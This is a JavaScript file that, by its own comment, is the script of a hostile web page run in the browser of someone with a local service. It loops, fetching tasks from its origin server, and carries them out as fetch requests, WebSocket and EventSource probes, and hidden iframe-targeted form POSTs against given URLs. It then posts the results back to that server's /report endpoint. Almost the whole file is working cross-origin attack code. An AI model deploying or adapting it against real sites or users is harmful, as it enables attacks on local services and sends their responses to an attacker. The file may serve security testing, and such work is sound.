// What a hostile page does in the browser of somebody who runs the service on this machine. The page's own server says what
// to try, and takes what came of it.
const home = new URL(document.currentScript.src).origin;

const tries = {
  async fetch({ url, method = 'GET', body, type, mode }) {
    const response = await fetch(url, { method, body, mode, headers: type && { 'content-type': type }, signal: AbortSignal.timeout(5_000) });
    return { status: response.status, type: response.type, text: (await response.text()).slice(0, 2_000) };
  },
  socket: ({ url }) =>
    new Promise((resolve) => {
      const socket = new WebSocket(url, ['world-redis.calls.1']);
      const done = (open) => {
        socket.close();
        resolve({ open });
      };
      socket.onopen = () => done(true);
      socket.onerror = () => done(false);
      setTimeout(done, 5_000, false);
    }),
  events: ({ url }) =>
    new Promise((resolve) => {
      const source = new EventSource(url);
      const done = (open) => {
        source.close();
        resolve({ open });
      };
      source.onopen = () => done(true);
      source.onerror = () => done(false);
      setTimeout(done, 5_000, false);
    }),
  // A form needs nobody's permission to be sent; nothing of the answer can be read.
  form: ({ url, type, name, value }) =>
    new Promise((resolve) => {
      const frame = document.body.appendChild(document.createElement('iframe'));
      frame.name = `f${Math.random()}`;
      const form = document.body.appendChild(document.createElement('form'));
      Object.assign(form, { action: url, method: 'POST', enctype: type, target: frame.name });
      form.appendChild(Object.assign(document.createElement('input'), { name, value }));
      frame.onload = () => setTimeout(resolve, 200, { sent: true });
      setTimeout(resolve, 1_500, { sent: true });
      form.submit();
    }),
};

async function attack() {
  for (;;) {
    const work = await fetch(`${home}/work`).then((r) => r.json(), () => undefined);
    if (work) {
      const results = [];
      for (const { kind, ...what } of work) {
        results.push(await tries[kind](what).catch((error) => ({ error: `${error.name}: ${error.message}` })));
      }
      return fetch(`${home}/report`, { method: 'POST', body: JSON.stringify(results) });
    }
    await new Promise((resolve) => setTimeout(resolve, 200));
  }
}

attack();
